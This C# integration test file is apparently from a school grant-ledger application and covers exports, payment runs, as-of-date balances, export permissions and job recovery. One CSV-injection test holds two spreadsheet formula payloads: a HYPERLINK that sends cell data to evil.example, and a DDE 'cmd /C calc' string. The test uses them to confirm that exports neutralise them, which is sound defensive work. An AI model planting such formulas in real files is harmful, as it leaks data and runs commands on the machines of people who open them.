        (await w.Lead.PostAsync($"/api/v1/claims/{thisYears}/start-review", null)).Expect(HttpStatusCode.OK);
        await ApproveAsync(thisYears);

        var finance = await s.FinanceAsync(Db);
        await Db.ScalarAsync("UPDATE school SET payee_reference = 'SUP-' || urn WHERE programme_id = $1 RETURNING 1", s.ProgrammeId);
        async Task<long> RunAsync(long? periodId, long claim)
        {
            var run = (await finance.PostAsync($"/api/v1/programmes/{s.ProgrammeId}/payment-runs", new { periodId })).Expect(HttpStatusCode.Created).Id;
            Assert.Equal(1, await Db.ScalarAsync("SELECT count(*) FROM claim WHERE id = $1 AND payment_run_id = $2", claim, run));
            return run;
        }
        var lastYearsRun = await RunAsync(w.Periods["aut1"], lastYears);
        var thisYearsRun = await RunAsync(nextAutumn1, thisYears);
        var later = await w.UnderReviewAsync("STAFF-03", "2025-10-07");
        await ApproveAsync(later);
        var everyHalfTerm = await RunAsync(null, later);

        var tables = await CsvTablesAsync(s, GrantLedger.Core.Ledger.UkTime.Today);
        var lines = CsvRows(tables["claim-lines"]);
        Assert.Equal(3, lines.Count);
        Assert.All(lines, l => Assert.Equal("Autumn 1", l["Half-term"]));
        Assert.Equal(["2025-26", "2026-27", "2025-26"], new[] { lastYears, thisYears, later }
            .Select(c => lines.Single(l => l["Claim"] == Web.Claims.ClaimAccess.Reference(c))["Year"]));
        // the same year as the claims' table gives the claim
        var claims = CsvRows(tables["claims"]);
        Assert.All(lines, l => Assert.Equal(claims.Single(c => c["Claim"] == l["Claim"])["Year"], l["Year"]));

        var runs = CsvRows(tables["payment-runs"]);
        Assert.Equal(3, runs.Count);
        string Run(long run, string column) => runs.Single(r => r["Run"] == Web.Payments.PaymentRuns.Reference(run))[column];
        Assert.Equal(("2025-26", "Autumn 1"), (Run(lastYearsRun, "Year"), Run(lastYearsRun, "Half-term")));
        Assert.Equal(("2026-27", "Autumn 1"), (Run(thisYearsRun, "Year"), Run(thisYearsRun, "Half-term")));
        Assert.Equal(("", ""), (Run(everyHalfTerm, "Year"), Run(everyHalfTerm, "Half-term")));
    }

    /// <summary>
    /// The action-plan themes as of a date: the plan agreed by then (a version agreed later, superseding it, is not yet
    /// in force), what claims asked for by then and only what was approved by then. The sheet counted approved amounts
    /// by the claims' states today and left out a plan superseded since. And the claims' sheet names the payment run a
    /// claim was in then, though its payment failed later (which takes it out of the run).
    /// </summary>
    [Fact]
    public async Task AnExportAsOfADate_CountsActionPlanThemesAndPaymentRunsAsTheyStoodThen()
    {
        var x = await ExportWorld.CreateAsync(Db);
        var planClaim = await Db.ScalarAsync(
            "SELECT DISTINCT l.claim_id FROM claim_line l JOIN claim c ON c.id = l.claim_id WHERE c.programme_id = $1 AND l.kind = 'action-plan'",
            x.ProgrammeId);
        // a day back: the plan's agreement and every claim's steps, but the action-plan claim's approval (and its payment) stay today
        await using (var back = Db.DataSource.CreateCommand($"""
            SET session_replication_role = replica; -- the records' own triggers keep their times: this test moves them
            UPDATE action_plan SET agreed_at = agreed_at - interval '1 day' WHERE programme_id = {x.ProgrammeId};
            UPDATE claim SET created_at = created_at - interval '1 day', submitted_at = submitted_at - interval '1 day'
             WHERE programme_id = {x.ProgrammeId};
            UPDATE claim_transition t SET occurred_at = occurred_at - interval '1 day'
              FROM claim c WHERE c.id = t.claim_id AND c.programme_id = {x.ProgrammeId} AND t.to_state <> 'paid'
               AND NOT (c.id = {planClaim} AND t.to_state IN ('approved', 'in-payment-run'));
            UPDATE payment_run SET built_at = built_at - interval '1 day', approved_at = approved_at - interval '1 day',
                                   exported_at = exported_at - interval '1 day' WHERE programme_id = {x.ProgrammeId};
            SET session_replication_role = origin;
            """))
            await back.ExecuteNonQueryAsync();

        // today: the plan's second version is agreed, and the other school's payment fails (its claim leaves the run)
        var v1 = (await x.W.School.GetAsync($"/api/v1/action-plans?schoolId={x.W.S.Schools[0].Id}")).Expect(HttpStatusCode.OK).Json.AsArray().Single()!;
        var v2 = (await x.W.School.PostAsync($"/api/v1/action-plans/{v1["id"]}/revise", null)).Expect(HttpStatusCode.Created).Id;
        (await x.W.School.PostAsync($"/api/v1/action-plans/{v2}/submit", null)).Expect(HttpStatusCode.OK);
        (await x.W.Lead.PostAsync($"/api/v1/action-plans/{v2}/agree", null)).Expect(HttpStatusCode.OK);
        var run = (await x.Finance.GetAsync($"/api/v1/programmes/{x.ProgrammeId}/payment-runs")).Expect(HttpStatusCode.OK).Json.AsArray().Single()!;
        var payees = (await x.Finance.GetAsync($"/api/v1/payment-runs/{run["id"]}")).Expect(HttpStatusCode.OK).Json["payees"]!.AsArray();
        var failing = payees.Single(p => p!["amount"]!.GetValue<string>() == "200.00")!["remittanceReference"]!.GetValue<string>();
        using var form = new MultipartFormDataContent();
        form.Add(new ByteArrayContent(System.Text.Encoding.UTF8.GetBytes(
            $"remittance_reference,amount,date,status\r\n{failing},200.00,{x.Today:yyyy-MM-dd},failed\r\n")), "file", "confirmations.csv");
        using (var confirmed = await x.Finance.Http.PostAsync($"/api/v1/programmes/{x.ProgrammeId}/payment-confirmations", form))
            (await Answer.ReadAsync(confirmed)).Expect(HttpStatusCode.OK);
        var reference = run["reference"]!.GetValue<string>();
        var urn = x.W.S.Schools[0].Urn;
        string Theme(Dictionary<string, string> tables) => Assert.Single(tables["action-plan-themes"].Split("\r\n"), l => l.Contains($",{urn},") && l.Contains(",learning,"));
        string FailedClaim(Dictionary<string, string> tables) => Assert.Single(tables["claims"].Split("\r\n"), l => l.Contains(",200.00,"));

        var then = await CsvTablesAsync(x, x.Today.AddDays(-1));
        Assert.EndsWith(",learning,1,1,300.00,120.00,0.00", Theme(then)); // version 1, claimed while under review, not yet approved
        Assert.Matches($",in-payment-run,.*,{reference}$", FailedClaim(then));

        var now = await CsvTablesAsync(x, x.Today);
        Assert.EndsWith(",learning,2,1,300.00,120.00,120.00", Theme(now));
        Assert.Matches(",approved,.*,$", FailedClaim(now));
    }

    /// <summary>
    /// CSV injection: an allocation's description, typed by a person, becomes its entry's and is exported. In the CSV
    /// a description a spreadsheet would take for a formula has an apostrophe before it, while negative amounts stay
    /// numbers; the workbook keeps the description as the text it is, in a text cell, not a formula.
    /// </summary>
    [Fact]
    public async Task Csv_RunsNothingInASpreadsheet_WhileTheWorkbookKeepsTheTextAsText()
    {
        var x = await ExportWorld.CreateAsync(Db);
        const string link = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open the evidence\")", dde = "@SUM(1+1)*cmd|' /C calc'!A0";
        foreach (var description in new[] { link, dde })
            (await x.W.S.Root.PostAsync($"{x.W.S.Year}/allocations", new
            {
                valueDate = "2026-10-01", description,
                lines = new[] { new { schoolId = x.W.S.Schools[1].Id, categoryId = x.W.S.Categories["action-plan"], amount = "1.00" } },
            })).Expect(HttpStatusCode.Created);

        var folder = ExportWorld.TempFolder();
        var files = (await ExportAsync(x, ExportKind.Csv, folder)).ToDictionary(f => Path.GetFileName(f.Path)[$"{x.Code}-{x.Today:yyyy-MM-dd}-".Length..^4],
            f => File.ReadAllText(f.Path));
        Assert.Contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open the evidence\"\")\",", files["journal"]);
        Assert.Contains(",'@SUM(1+1)*cmd|' /C calc'!A0,", files["journal"]);
        Assert.Matches(",-\\d+\\.\\d{2},", files["trial-balance"]); // a credit balance, debits less credits: still a number
        Assert.All(files.Values.SelectMany(f => f.Split("\r\n")), l => Assert.False(l.Length > 0 && l[0] is '=' or '@', l));

        var book = await ExportWorld.ReadWorkbookAsync((await ExportAsync(x, ExportKind.Workbook, ExportWorld.TempFolder())).Single().Path);
        var journal = Sheet(book, "Journal");
        var column = Array.IndexOf(Headers(journal), "Description");
        var row = journal["rows"]!.AsArray().Select((r, i) => (r, i)).Single(r => r.r![column]?.GetValue<string>() == link).i;
        Assert.Null(journal["formulas"]![row]![column]); // text, not a formula
        Assert.Contains(journal["rows"]!.AsArray(), r => r![column]?.GetValue<string>() == dde);
    }

    [Fact]
    public async Task BalancesAsOfADate_AreTheSame_SummedFromTransfers_OrFromStoredBalancesLessLaterTransfers()
    {
        var x = await ExportWorld.CreateAsync(Db);
        var yearStart = new DateOnly(2026, 9, 1); // the day the world's funding and allocations are dated; its claims come later
        foreach (var asOf in new[] { yearStart, x.Today })
        {
            var fromTransfers = await BalanceTablesAsync(x, asOf, Reconciliation.BalancesFrom.Transfers);
            var fromStored = await BalanceTablesAsync(x, asOf, Reconciliation.BalancesFrom.StoredLessLater);
            foreach (var table in fromTransfers.Keys)
                Assert.True(fromTransfers[table].SequenceEqual(fromStored[table]),
                    $"{table} as of {asOf}:\n{string.Join("\n", fromTransfers[table])}\nagainst\n{string.Join("\n", fromStored[table])}");
            Assert.All(fromStored["checks"], c => Assert.EndsWith(",true", c)); // every tie-out holds
        }

        // as of the first day: every school has its allocation and nothing else
        var first = await BalanceTablesAsync(x, yearStart, Reconciliation.BalancesFrom.StoredLessLater);
        var money = first["schools"].Select(r => r.Split(',')).Where(r => r[5] == "GBP").ToList();
        Assert.Equal(Pounds(ExportWorld.Allocated), Pounds(money.Sum(r => (long)(decimal.Parse(r[6], CultureInfo.InvariantCulture) * 100))));
        Assert.All(money, r => Assert.Equal(new[] { "0.00", "0.00", "0.00", "0.00" }, r[7..11]));
        // as of today: the world's figures
        var today = await BalanceTablesAsync(x, x.Today, Reconciliation.BalancesFrom.StoredLessLater);
        var area = today["summary"].Select(r => r.Split(',')).Where(r => r[0] != "Total").ToList(); // the areas, not their total
        var total = today["summary"].Select(r => r.Split(',')).Single(r => r[0] == "Total");
        Assert.Equal(Pounds(ExportWorld.Reserved), Pounds(area.Sum(r => (long)(decimal.Parse(r[4], CultureInfo.InvariantCulture) * 100))));
        Assert.Equal(Pounds(ExportWorld.Payable), Pounds(area.Sum(r => (long)(decimal.Parse(r[7], CultureInfo.InvariantCulture) * 100))));
        Assert.Equal([Pounds(ExportWorld.Reserved), Pounds(ExportWorld.Payable)], new[] { total[4], total[7] });
    }

    [Fact]
    public async Task Journal_StoppedEarly_LeavesThePlannerAsItFoundIt_ForTheTablesAfterIt()
    {
        var x = await ExportWorld.CreateAsync(Db);
        var (before, after, rows) = await Db.InScopeAsync(async sp =>
        {
            var db = sp.GetRequiredService<GrantLedgerDb>();
            await using var tx = await Exporter.BeginSnapshotAsync(db, CancellationToken.None);
            var (conn, npgsqlTx) = await db.NpgsqlAsync();
            async Task<string> Planner()
            {
                await using var cmd = new Npgsql.NpgsqlCommand(
                    "SELECT current_setting('enable_hashjoin') || ',' || current_setting('enable_sort') || ',' || current_setting('max_parallel_workers_per_gather')",
                    conn, npgsqlTx);
                return (string)(await cmd.ExecuteScalarAsync())!;
            }
            var journal = (await Reconciliation.TablesAsync(conn, npgsqlTx, x.ProgrammeId, x.Today, CancellationToken.None)).Single(t => t.Name == "journal");
            var first = await Planner();
            var read = 0;
            await foreach (var row in journal.Rows(CancellationToken.None))
            {
                read++;
                Assert.Equal(journal.Columns.Count, row.Length);
                break; // as a writer that stops at a limit
            }
            return (first, await Planner(), read);
        });
        Assert.Equal(1, rows);
        Assert.Equal(before, after); // hash joins, sorts and parallel workers back for the trial balance and the rest
        Assert.Equal("on,on", string.Join(',', after.Split(',').Take(2)));
    }

    /// <summary>
    /// The Checks sheet says whether every limited account (a school's available budget, the unallocated budget, a school's
    /// payable) was within its limit at the end of the as-of date: a budget moved away on a date before it was allocated
    /// leaves the school below nought in between. The sheet checked totals only, and said all held beside a school whose
    /// Available was −£36.00 (found by a review of the demo, through an allocation dated ahead). PostgreSQL now refuses an
    /// entry that does this (migration 0069); one written before it stays, and is written here as it was then, with the
    /// ledger's triggers off.
    /// </summary>
    [Fact]
    public async Task Checks_AsOfADate_TellAnAccountBelowItsLimitThen()
    {
        var s = await Scenario.CreateAsync(Db, 1, 1);
        await s.FundAsync("1000.00");
        (await s.Root.PostAsync($"{s.Year}/allocations", new
        {
            valueDate = s.On("10-01"), lines = new[] { new { schoolId = s.Schools[0].Id, categoryId = s.Categories["staff-cover"], amount = "300.00" } },
        })).Expect(HttpStatusCode.Created);
        (await s.Root.PostAsync($"{s.Year}/virements", new
        {
            from = new { schoolId = s.Schools[0].Id, categoryId = s.Categories["staff-cover"] },
            to = new { schoolId = s.Schools[0].Id, categoryId = s.Categories["action-plan"] },
            amount = "36.00", reason = "dated before the allocation", valueDate = s.On("09-15"),
        })).ExpectProblem(HttpStatusCode.UnprocessableEntity, "valueDate");
        var available = (await s.AccountAsync(s.SchoolAccount(0, "staff-cover", "available")))["id"]!.GetValue<long>();
        var unallocated = (await s.AccountAsync($"{s.Code}:{s.YearCode}:unallocated"))["id"]!.GetValue<long>();
        await Db.DataSource.ExecuteAsync($"""
            SET session_replication_role = replica;
            WITH e AS (INSERT INTO journal_entry (programme_id, value_date, description, cause_type)
                       VALUES ({s.ProgrammeId}, '{s.On("09-15")}', 'written before migration 0069', 'allocation')
                       RETURNING id, programme_id, value_date, recorded_at)
            INSERT INTO transfer (entry_id, programme_id, unit, debit_account_id, credit_account_id, amount, kind, value_date, recorded_at)
            SELECT id, programme_id, 'GBP', {available}, {unallocated}, 3600, 'posted', value_date, recorded_at FROM e;
            UPDATE account SET debits_posted = debits_posted + 3600 WHERE id = {available};
            UPDATE account SET credits_posted = credits_posted + 3600 WHERE id = {unallocated};
            SET session_replication_role = origin
            """);

        foreach (var from in new[] { Reconciliation.BalancesFrom.Transfers, Reconciliation.BalancesFrom.StoredLessLater })
        {
            var then = (await BalanceTablesAsync(s.ProgrammeId, DateOnly.Parse(s.On("09-20")), from))["checks"];
            Assert.Contains("Limited accounts within their limits (money),GBP,36.00,0.00,36.00,false", then);
            Assert.Contains("-36.00", string.Join('\n', (await BalanceTablesAsync(s.ProgrammeId, DateOnly.Parse(s.On("09-20")), from))["schools"]));
            var now = (await BalanceTablesAsync(s.ProgrammeId, GrantLedger.Core.Ledger.UkTime.Today, from))["checks"];
            Assert.Contains("Limited accounts within their limits (money),GBP,0.00,0.00,0.00,true", now);
            Assert.All(now, c => Assert.EndsWith(",true", c));
        }
    }

    /// <summary>The tables built from balances (summary, schools, trial balance, checks) as CSV lines, read in the exporter's snapshot.</summary>
    private Task<Dictionary<string, List<string>>> BalanceTablesAsync(ExportWorld x, DateOnly asOf, Reconciliation.BalancesFrom from) =>
        BalanceTablesAsync(x.ProgrammeId, asOf, from);

    private async Task<Dictionary<string, List<string>>> BalanceTablesAsync(long programmeId, DateOnly asOf, Reconciliation.BalancesFrom from) =>
        await Db.InScopeAsync(async sp =>
        {
            var db = sp.GetRequiredService<GrantLedgerDb>();
            await using var tx = await Exporter.BeginSnapshotAsync(db, CancellationToken.None);
            var (conn, npgsqlTx) = await db.NpgsqlAsync();
            var tables = new Dictionary<string, List<string>>();
            foreach (var t in await Reconciliation.TablesAsync(conn, npgsqlTx, programmeId, asOf, from, CancellationToken.None))
            {
                if (t.Name is not ("summary" or "schools" or "trial-balance" or "checks")) continue;
                var kinds = t.Columns.Select(c => c.Kind).ToArray();
                var lines = new List<string>();
                await foreach (var row in t.Rows(CancellationToken.None))
                    lines.Add(string.Join(',', row.Select((v, i) => CellText.Csv(v, kinds[i]) ?? "").Where((_, i) => t.Name != "checks" || i != 6)));
                tables[t.Name] = lines;
            }
            return tables;
        });

    [Fact]
    public async Task Workbook_TablePastTheRowLimit_IsANoteNotAPartOfTheTable_PointingToTheCsv()
    {
        var x = await ExportWorld.CreateAsync(Db);
        var folder = ExportWorld.TempFolder();
        var files = await ExportAsync(x, ExportKind.Workbook, folder, new ExportOptions(MaxSheetRows: 8));
        var book = await ExportWorld.ReadWorkbookAsync(files.Single().Path);

        // A sheet holding the first rows of a longer table would sum to the wrong totals.
        var journal = Sheet(book, "Journal");
        Assert.Equal(2, journal["maxRow"]!.GetValue<int>());
        var note = journal["rows"]!.AsArray()[^1]![0]!.GetValue<string>();
        Assert.Matches(@"This table has \d+ rows, more than the 7 Excel holds", note);
        Assert.Contains("none are here", note);
        Assert.Contains($"{x.Code}-{x.Today:yyyy-MM-dd}-journal.csv", note);
        var claims = Sheet(book, "Claims"); // 6 claims and a header: 7 rows fit under 8
        Assert.Equal(7, claims["maxRow"]!.GetValue<int>());
        Assert.DoesNotContain(claims["rows"]!.AsArray(), r => r![0]!.GetValue<string>().Contains("Excel holds"));
    }

    [Fact]
    public async Task Exports_AreTakenByFinanceAdminsAndAuditors_OfTheirProgramme_AndNobodyElse()
    {
        var x = await ExportWorld.CreateAsync(Db);
        var path = $"/api/v1/programmes/{x.ProgrammeId}/exports";
        var body = new { kind = "hledger" };
        (await x.W.School.PostAsync(path, body)).ExpectProblem(HttpStatusCode.Forbidden);
        (await x.W.Lead.PostAsync(path, body)).ExpectProblem(HttpStatusCode.Forbidden);
        var other = await Scenario.CreateAsync(Db, 1, 1, code: "op");
        var otherFinance = await other.FinanceAsync(Db);
        (await otherFinance.PostAsync(path, body)).ExpectProblem(HttpStatusCode.Forbidden);

        // Auditors take exports (DESIGN.md: the auditor "queries the ledger and the audit trail, takes exports"): until
        // 3 December an auditor's POST answered 403 and they could only read the jobs finance and admins started.
        var auditor = await x.W.S.AuditorAsync(Db);
        var (auditorJob, _) = await ExportWorld.RunJobAsync(auditor, x.ProgrammeId, "csv", x.Today);
        Assert.Equal("succeeded", auditorJob["state"]!.GetValue<string>());
        (await auditor.GetAsync(auditorJob["file"]!.GetValue<string>())).Expect(HttpStatusCode.OK);
        (await x.Finance.GetAsync($"/api/v1/exports/{auditorJob["id"]}")).Expect(HttpStatusCode.OK);
        using (var page = await Security.PageFormFuzzTests.SignedInPageAsync(Db.Factory, auditor.UserName))
        {
            using var form = await page.GetAsync($"/exports/new?programmeId={x.ProgrammeId}");
            Assert.Equal(HttpStatusCode.OK, form.StatusCode); // the page to start one, as finance has
        }
        // only exports open to them: the rest of what finance does stays closed
        (await auditor.PostAsync($"/api/v1/programmes/{x.ProgrammeId}/payment-runs", new { asOf = x.Today.ToString("yyyy-MM-dd") }))
            .ExpectProblem(HttpStatusCode.Forbidden);
        var (job, _) = await ExportWorld.RunJobAsync(x.Finance, x.ProgrammeId, "beancount", x.Today);
        Assert.Equal("succeeded", job["state"]!.GetValue<string>());
        var (adminJob, _) = await ExportWorld.RunJobAsync(x.W.Admin, x.ProgrammeId, "hledger", x.Today);
        Assert.Equal("succeeded", adminJob["state"]!.GetValue<string>());
        var id = job["id"]!.GetValue<long>();
        (await x.W.School.GetAsync($"/api/v1/exports/{id}")).ExpectProblem(HttpStatusCode.Forbidden);
        (await x.W.School.GetAsync($"/api/v1/exports/{id}/file")).ExpectProblem(HttpStatusCode.Forbidden);
        (await otherFinance.GetAsync($"/api/v1/exports/{id}")).ExpectProblem(HttpStatusCode.Forbidden);
        (await x.Finance.GetAsync($"/api/v1/exports/{id}")).Expect(HttpStatusCode.OK);
        (await auditor.GetAsync($"/api/v1/exports/{id}/file")).Expect(HttpStatusCode.OK);

        // the programme's jobs listed, newest first, a page at a time: a job whose address was not kept is found again
        long[] Ids(System.Text.Json.Nodes.JsonNode list) => list.AsArray().Select(j => j!["id"]!.GetValue<long>()).ToArray();
        var all = (await x.Finance.GetAsync(path)).Expect(HttpStatusCode.OK).Json;
        Assert.Equal(new[] { adminJob["id"]!.GetValue<long>(), id, auditorJob["id"]!.GetValue<long>() }, Ids(all));
        Assert.Equal(job["file"]!.GetValue<string>(), all[1]!["file"]!.GetValue<string>());
        Assert.Equal(Ids(all)[1..], Ids((await auditor.GetAsync($"{path}?before={adminJob["id"]}&limit=2")).Expect(HttpStatusCode.OK).Json));
        Assert.Equal(Ids(all)[..1], Ids((await x.W.Admin.GetAsync($"{path}?limit=1")).Expect(HttpStatusCode.OK).Json));
        (await x.W.School.GetAsync(path)).ExpectProblem(HttpStatusCode.Forbidden);
        (await otherFinance.GetAsync(path)).ExpectProblem(HttpStatusCode.Forbidden);
        (await x.Finance.GetAsync($"{path}?limit=0")).ExpectProblem(HttpStatusCode.UnprocessableEntity, "limit");
        (await x.Finance.GetAsync("/api/v1/programmes/999999/exports")).ExpectProblem(HttpStatusCode.NotFound);

        (await x.Finance.PostAsync(path, new { kind = "pdf" })).ExpectProblem(HttpStatusCode.UnprocessableEntity, "kind");
        (await x.Finance.PostAsync(path, new { kind = "csv", asOf = x.Today.AddDays(1).ToString("yyyy-MM-dd") }))
            .ExpectProblem(HttpStatusCode.UnprocessableEntity, "asOf");
        (await x.Finance.PostAsync("/api/v1/programmes/999999/exports", body)).ExpectProblem(HttpStatusCode.NotFound);
        (await x.Finance.GetAsync("/api/v1/exports/999999")).ExpectProblem(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Job_InterruptedByARestart_IsMarkedFailed_WhileAJobStillRunningElsewhereIsLeftAlone()
    {
        var s = await Scenario.CreateAsync(Db, 1, 1);
        var finance = await s.FinanceAsync(Db);
        var orphan = await Db.ScalarAsync(
            "INSERT INTO export_job (programme_id, kind, as_of, state, requested_by, started_at) VALUES ($1, 'csv', '2026-11-01', 'running', $2, now()) RETURNING id",
            s.ProgrammeId, finance.UserId);
        long held;
        await using (var otherInstance = new Npgsql.NpgsqlConnection(Db.ConnectionString + ";Pooling=false"))
        {
            await otherInstance.OpenAsync();
            // the other instance's job is seen running only once it holds the job's lock, as the runner takes it: a host
            // started meanwhile by another test (its runner fails interrupted jobs at start) found it running, unlocked
            await using (var tx = await otherInstance.BeginTransactionAsync())
            {
                await using (var insert = new Npgsql.NpgsqlCommand(
                    "INSERT INTO export_job (programme_id, kind, as_of, state, requested_by, started_at) VALUES ($1, 'csv', '2026-11-01', 'running', $2, now()) RETURNING id",
                    otherInstance, tx))
                {
                    insert.Parameters.Add(new() { Value = s.ProgrammeId });
                    insert.Parameters.Add(new() { Value = finance.UserId });
                    held = (long)(await insert.ExecuteScalarAsync())!;
                }
                await using (var take = new Npgsql.NpgsqlCommand($"SELECT pg_advisory_lock(hashtext('export_job'), {held}::int)", otherInstance, tx))
                    await take.ExecuteNonQueryAsync();
                await tx.CommitAsync();
            }

            await ExportRunner.FailInterruptedAsync(Db.DataSource, CancellationToken.None);

            var failed = await SettledAsync(finance, orphan);
            Assert.Equal("failed", failed["state"]!.GetValue<string>());
            Assert.Equal(ExportRunner.Interrupted, failed["error"]!.GetValue<string>());
            Assert.Null(failed["file"]);
            Assert.Equal("running", (await finance.GetAsync($"/api/v1/exports/{held}")).Expect(HttpStatusCode.OK).Json["state"]!.GetValue<string>());
            (await finance.GetAsync($"/api/v1/exports/{orphan}/file")).ExpectProblem(HttpStatusCode.Conflict, rule: "export-not-ready");
            (await finance.GetAsync($"/api/v1/exports/{held}/file")).ExpectProblem(HttpStatusCode.Conflict, rule: "export-not-ready");
        }
        // the other instance has gone: its job is failed too
        await ExportRunner.FailInterruptedAsync(Db.DataSource, CancellationToken.None);
        Assert.Equal("failed", (await SettledAsync(finance, held))["state"]!.GetValue<string>());
    }

    /// <summary>The job once no sweep is half-way through it (the service's own runner sweeps every few seconds too).</summary>
    private static async Task<JsonNode> SettledAsync(ApiClient client, long id)
    {
        for (var i = 0; ; i++)
        {
            var job = (await client.GetAsync($"/api/v1/exports/{id}")).Expect(HttpStatusCode.OK).Json;
            if (job["state"]!.GetValue<string>() != "running" || i == 50) return job;
            await Task.Delay(100);
        }
    }
}
